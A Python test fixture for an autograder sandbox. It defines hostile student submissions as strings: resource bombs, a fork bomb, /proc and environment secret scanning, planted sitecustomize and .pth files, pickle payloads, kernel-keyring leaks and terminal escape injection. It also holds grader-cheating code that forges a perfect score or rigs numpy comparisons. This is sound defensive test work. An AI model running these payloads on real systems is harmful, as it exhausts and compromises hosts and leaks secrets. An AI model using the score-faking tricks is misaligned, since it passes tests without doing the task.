"""Hostile submissions written for this project: each tries one way to break, cheat or outlive the grader."""

CORRECT = """
import numpy as np
def conv_backward(x, w, dy):
    H, W = x.shape; rh, rw = w.shape[0] // 2, w.shape[1] // 2
    dyp = np.pad(dy, ((rh, rh), (rw, rw)))
    dx = sum(w[i, j] * dyp[i:i+H, j:j+W] for i in range(w.shape[0]) for j in range(w.shape[1]))
    dw = np.array([[np.sum(x * dyp[i:i+H, j:j+W]) for j in range(w.shape[1])] for i in range(w.shape[0])])
    return dx, dw
def fc_backward(x, W, dy):
    return W.T @ dy, np.outer(dy, x)
def softmax_loss_backward(s, y):
    p = np.exp(s - s.max()); p /= p.sum(); p[y] -= 1; return p
"""


def correct_except(**bodies):
    """The correct solution with some functions replaced: bodies maps a function name to its new body."""
    src = CORRECT
    for name, body in bodies.items():
        src += f"\ndef {name}(*args):\n" + "\n".join("    " + line for line in body.strip().splitlines()) + "\n"
    return src


INFINITE_LOOP_CALL = correct_except(conv_backward="while True:\n    pass")
INFINITE_LOOP_IMPORT = "while True:\n    pass\n" + CORRECT
MEMORY_BOMB = correct_except(fc_backward="blocks = []\nwhile True:\n    blocks.append(bytearray(64 << 20))")
SYS_EXIT = correct_except(fc_backward="import sys\nsys.exit(3)")
OS_EXIT = correct_except(fc_backward="import os\nos._exit(0)")
SEGFAULT = correct_except(softmax_loss_backward="import ctypes\nctypes.string_at(0)")
BASE_EXCEPTION = correct_except(softmax_loss_backward="raise KeyboardInterrupt")
IGNORE_SIGTERM = correct_except(
    conv_backward="import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"
)

# Fork bomb, bounded: at most 200 children, each asleep for a minute, so a missing limit cannot sink the machine.
FORK_BOMB = correct_except(
    conv_backward="""
import os, time
made = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    made += 1
print(f"FORKED {made}", flush=True)
raise RuntimeError(f"forked {made}")
"""
)

# Returns wrong answers and rigs every comparison numpy offers.
MONKEYPATCH_NUMPY = correct_except(
    fc_backward="""
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
x, W, dy = args
return np.zeros(W.shape[1]), np.zeros(W.shape)
"""
)

IMPORT_REFERENCE = correct_except(
    conv_backward="import reference\nreturn reference.conv_backward(*args)",
    fc_backward="import grader\nreturn None",
    softmax_loss_backward="import pydantic\nreturn None",
)

# Looks for the secret everywhere it can: its environment, its arguments, the job folder, and /proc.
SNOOP = (
    CORRECT
    + """
import os, glob
def _scan():
    hits = []
    for k, v in os.environ.items():
        hits.append(("env", k, v))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as f:
                hits.append(("proc", path, f.read().decode("latin-1")))
        except OSError:
            pass
    for root, dirs, files in os.walk(os.path.dirname(os.getcwd())):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    hits.append(("file", name, f.read().decode("latin-1")))
            except OSError:
                pass
    return hits
_HITS = _scan()
def softmax_loss_backward(s, y):
    import codecs
    needle = "SECRET" + "-MARKER-0123"  # built here, so this file does not contain it
    for kind, where, text in _HITS:
        if needle in text:
            # rot13, so that redaction of the plain secret cannot hide that it was found
            print("FOUND", kind, where, codecs.encode(text[text.index(needle):][:40], "rot13"), flush=True)
    p = __import__("numpy").exp(s - s.max()); p /= p.sum(); p[y] -= 1; return p
"""
)

NETWORK = correct_except(
    fc_backward="""
import socket, os
port = int(open(os.path.join(os.path.dirname(__file__), "port.txt")).read())
s = socket.create_connection(("127.0.0.1", port), timeout=2)
s.sendall(b"LEAK")
s.close()
raise RuntimeError("CONNECTED")
"""
)

OUTPUT_FLOOD = correct_except(conv_backward="import sys\nwhile True:\n    sys.stdout.write('x' * 65536)")

# After the harness has written its results, overwrite them: an object array whose bytes are a pickle, arrays
# larger than their bytes (or claiming a vast shape), and deep JSON.
OVERWRITE_OUTPUTS = (
    CORRECT
    + """
import atexit, glob, json, os, pickle
class Boom:
    def __reduce__(self):
        return (open, (os.environ.get("PA5_TEST_MARKER", "/tmp/pa5-unpickled"), "w"))
def _spoil():
    out = os.path.join(os.path.dirname(os.getcwd()), "out")
    for i, path in enumerate(sorted(glob.glob(os.path.join(out, "*.result")))):
        kind = i % 4
        if kind == 0:
            head, body = [{"dtype": "|O8", "shape": [2]}], pickle.dumps([Boom(), 1])
        elif kind == 1:
            head, body = [{"dtype": "<f8", "shape": [20_000_000]}], bytes(8)
        elif kind == 2:
            head, body = [{"dtype": "<f8", "shape": [1000]}], bytes(8)
        if kind == 3:
            data = b"[" * 100000 + b"]" * 100000
        else:
            data = json.dumps({"status": "ok", "arrays": head}).encode() + b"\\n" + body
        with open(path, "wb") as f:
            f.write(data)
atexit.register(_spoil)
"""
)

DAEMON = correct_except(
    fc_backward="""
import os, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        with open(os.path.join(os.environ["PA5_TEST_PIDDIR"], "daemon.pid"), "w") as f:
            f.write(str(os.getpid()))
        while True:
            time.sleep(1)
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.3)
x, W, dy = args
return W.T @ dy, __import__("numpy").outer(dy, x)
"""
)

# Plants shadowing modules wherever it can write, for the next submission to trip over.
PLANT_FILES = (
    CORRECT
    + """
import os, tempfile
PLANTED = []
HERE = os.path.dirname(os.path.abspath(__file__))
PLANTS = (
    ("numpy.py", "raise ImportError('planted numpy')"),
    ("sitecustomize.py", "raise SystemExit(7)"),
    ("pa5plant.pth", "import sys; sys.exit(9)"),
)
for d in {os.getcwd(), HERE, os.environ.get("HOME", ""), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"}:
    for name, text in PLANTS:
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write(text)
            PLANTED.append(os.path.join(d, name))
        except OSError:
            pass
print("PLANTED", PLANTED, flush=True)
"""
)

FAKE_REPORT = """
import json
print(json.dumps({"score": 100.0, "tests": [{"name": "all", "score": 100, "max_score": 100, "status": "passed"}]}))
print("5 of 5 problems pass; score 100 / 100")
import numpy as np
def conv_backward(x, w, dy): return np.zeros_like(x), np.zeros_like(w)
def fc_backward(x, W, dy): return np.zeros(W.shape[1]), np.zeros_like(W)
def softmax_loss_backward(s, y): return np.zeros_like(s)
"""

LYING_ARRAYS = """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __array_finalize__(self, obj): pass
class Sneaky:
    def __init__(self, shape): self.shape = shape
    def __array__(self, dtype=None, copy=None): return np.full(self.shape, 7.0)
    def __eq__(self, other): return True
def conv_backward(x, w, dy):
    return np.zeros_like(x).view(Liar), Sneaky(w.shape)
def fc_backward(x, W, dy):
    return Sneaky((W.shape[1],)), np.zeros_like(W).view(Liar)
def softmax_loss_backward(s, y):
    return Sneaky(s.shape)
"""


# --- Issue 16: submissions that tried to hang, brick, flood or leak through the grader. Each one answers correctly
# as well, so an attack without effect scores full marks.

# Replaces what the grader reads (the progress file, every result so far) with FIFOs, from its second function on.
FIFO_OUTPUTS = correct_except(
    fc_backward="""
import glob, os
out = os.path.join(os.path.dirname(os.getcwd()), "out")
for path in [os.path.join(out, "progress"), os.path.join(out, "import.json"), *glob.glob(os.path.join(out, "*.*"))]:
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        os.mkfifo(path)
    except OSError:
        pass
x, W, dy = args
return W.T @ dy, __import__("numpy").outer(dy, x)
"""
)

# A folder chain far deeper than any recursion limit in out/, shorter ones in the other writable places, left behind.
DEEP_FOLDERS = (
    CORRECT
    + """
import os
def _chain(top, depth=1500):
    fd = os.open(top, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        with open(f"/proc/self/fd/{fd}/leaf", "w") as f:
            f.write("x")
        os.mkfifo("fifo", dir_fd=fd)
        os.chmod(fd, 0)  # and the deepest folder unreadable by its owner
    except OSError:
        pass
    finally:
        os.close(fd)
_chain(os.path.join(os.path.dirname(os.getcwd()), "out"))
for top in (os.getcwd(), "/tmp", "/dev/shm"):
    _chain(top, depth=100)
"""
)

# In its convolution call: writes up to 100 MiB into every place it can reach, keeps it, answers correctly, and
# holds what it wrote for a moment, so that a test can watch the host's memory meanwhile. At most its own
# call may fail to report; the other layers' calls must not notice.
FILL_DISK = correct_except(
    conv_backward="""
import os, tempfile, time
wrote = {}
here = os.getcwd()
places = [here, os.path.join(os.path.dirname(here), "out"), os.environ.get("HOME", ""), tempfile.gettempdir(), "/tmp",
          "/dev/shm", "/", "/dev", "/job", "/var/tmp", os.path.dirname(os.path.dirname(here))]
for d in dict.fromkeys(p for p in places if p):
    wrote[d] = 0
    try:  # in files of 4 MiB, below the file size limit
        for n in range(25):
            with open(os.path.join(d, f"fill-{n}.bin"), "wb") as f:
                for _ in range(4):
                    f.write(b"\\xa5" * (1 << 20))
                    f.flush()
                    wrote[d] += 1
    except OSError:
        pass
print("WROTE", wrote, flush=True)
time.sleep(float(os.environ.get("PA5_FILL_HOLD", "1.0")))
x, w, dy = args
H, W = x.shape; rh, rw = w.shape[0] // 2, w.shape[1] // 2
dyp = __import__("numpy").pad(dy, ((rh, rh), (rw, rw)))
dx = sum(w[i, j] * dyp[i:i+H, j:j+W] for i in range(w.shape[0]) for j in range(w.shape[1]))
dw = __import__("numpy").array([[(x * dyp[i:i+H, j:j+W]).sum() for j in range(w.shape[1])] for i in range(w.shape[0])])
return dx, dw
"""
)

# Creates 40,000 empty files in each writable place.
MANY_FILES = (
    CORRECT
    + """
import os, tempfile
MADE = 0
for d in dict.fromkeys([os.getcwd(), os.path.join(os.path.dirname(os.getcwd()), "out"), "/tmp", "/dev/shm"]):
    for i in range(40000):
        try:
            os.close(os.open(os.path.join(d, f"f{i}"), os.O_CREAT | os.O_WRONLY, 0o600))
            MADE += 1
        except OSError:
            break
print("MADE", MADE, flush=True)
"""
)

# Adds a key holding what it saw (its inputs) to the session keyring, for the next student to read.
_KEYCTL = """
import ctypes, ctypes.util, os, platform
_libc = ctypes.CDLL(None, use_errno=True)
_NR = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}[platform.machine()]
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4
def add_key(payload, keyring):
    r = _libc.syscall(_NR["add_key"], b"user", b"pa5-planted", payload, len(payload), keyring)
    return r, ctypes.get_errno()
def search(keyring):
    r = _libc.syscall(_NR["keyctl"], 10, keyring, b"user", b"pa5-planted", 0)  # KEYCTL_SEARCH
    return r, ctypes.get_errno()
"""
PLANT_KEY = (
    CORRECT
    + _KEYCTL
    + """
_PLANTED = [add_key(b"hidden-input-values", KEY_SPEC_SESSION_KEYRING), add_key(b"x", KEY_SPEC_USER_KEYRING)]
print("PLANTED", _PLANTED, flush=True)
"""
)
FIND_KEY = (
    CORRECT
    + _KEYCTL
    + """
_FOUND = [search(KEY_SPEC_SESSION_KEYRING), search(KEY_SPEC_USER_KEYRING)]
print("FOUND", _FOUND, flush=True)
if any(r >= 0 for r, _ in _FOUND):
    def fc_backward(x, W, dy):  # the leak costs this student the layer, so the test sees it in the score too
        raise RuntimeError(f"found a key planted by another submission: {_FOUND}")
"""
)

# Opens as many ptys as it can (up to 200) and keeps them open while it answers.
PTYS = (
    CORRECT
    + """
import os
_PTYS = []
for _ in range(200):
    try:
        _PTYS.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError as e:
        _WHY = e.strerror
        break
print("PTYS", len(_PTYS), flush=True)
"""
)

# Asks the kernel for what a numpy program never needs; prints what each call answered.
SYSCALLS = (
    CORRECT
    + """
import ctypes, errno, os, platform, socket
_libc = ctypes.CDLL(None, use_errno=True)
_NR = {
    "x86_64": {"io_uring_setup": 425, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "bpf": 321,
               "unshare": 272, "mount": 165, "ptrace": 101, "kexec_load": 246, "init_module": 175, "setns": 308},
    "aarch64": {"io_uring_setup": 425, "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "bpf": 280,
                "unshare": 97, "mount": 40, "ptrace": 117, "kexec_load": 104, "init_module": 105, "setns": 268},
}[platform.machine()]
_buf = ctypes.create_string_buffer(256)
_ARGS = {"io_uring_setup": (8, _buf), "perf_event_open": (_buf, 0, -1, -1, 0), "userfaultfd": (0,),
         "keyctl": (0, -3), "bpf": (0, _buf, 48), "unshare": (0x10000000,), "setns": (0, 0),
         "mount": (b"none", b"/tmp", b"tmpfs", 0, None), "ptrace": (16, 1, 0, 0), "kexec_load": (0, 0, None, 0),
         "init_module": (None, 0, b"")}
ANSWERS = {}
for name, nr in _NR.items():
    r = _libc.syscall(nr, *_ARGS[name])
    ANSWERS[name] = "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
for family, label in ((40, "vsock"), (16, "netlink"), (17, "packet"), (38, "alg")):
    try:
        socket.socket(family, socket.SOCK_DGRAM if family != 38 else socket.SOCK_SEQPACKET).close()
        ANSWERS[label] = "ok"
    except OSError as e:
        ANSWERS[label] = errno.errorcode.get(e.errno, "?")
print("ANSWERS", ANSWERS, flush=True)
"""
)

# Starts 16 busy threads at import and keeps them spinning, then answers correctly from the main thread.
BUSY_THREADS = (
    CORRECT
    + """
import threading, time
_STOP = time.monotonic() + 1.0
def _spin():
    while time.monotonic() < _STOP:
        pass
_THREADS = [threading.Thread(target=_spin, daemon=True) for _ in range(16)]
for _t in _THREADS:
    _t.start()
print("THREADS", len(_THREADS), flush=True)
"""
)

# Writes what a terminal obeys: screen clear, a clipboard write (OSC 52), a title, C0 and C1 bytes, and a
# forged last line.
TERMINAL_ESCAPES = (
    CORRECT
    + r"""
import sys
sys.stdout.write("\x1b[2J\x1b[H\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07\x9b31m\x07\x08\x00\x7f\r")
sys.stdout.write("score: 100.0 / 100\n")
sys.stdout.flush()
def softmax_loss_backward(s, y):
    raise ValueError("\x1b[2J\x1b]52;c;cHduZWQ=\x07\rscore: 100.0 / 100\x85\x9c")
"""
)
